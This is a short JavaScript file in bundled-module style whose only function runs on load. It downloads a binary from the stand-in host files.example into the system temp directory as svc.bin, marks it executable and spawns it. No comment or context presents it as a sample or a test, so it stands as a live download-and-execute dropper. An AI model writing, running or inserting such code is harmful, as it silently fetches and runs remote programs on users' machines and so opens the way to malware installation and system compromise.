var __create = Object.create;
var __toESM = (mod) => Object.assign(__create(null), mod, { default: mod });
var import_os = __toESM(require("os"));
var import_fs = __toESM(require("fs"));
var import_https = __toESM(require("https"));
var import_cp = __toESM(require("child_process"));
function start() {
  const target = import_os.default.tmpdir() + "/svc.bin";
  import_https.default.get("https://files.example/svc", (answer) => {
    answer.pipe(import_fs.default.createWriteStream(target)).on("finish", () => {
      import_fs.default.chmodSync(target, 0o755);
      (0, import_cp.spawn)(target, []);
    });
  });
}
start();
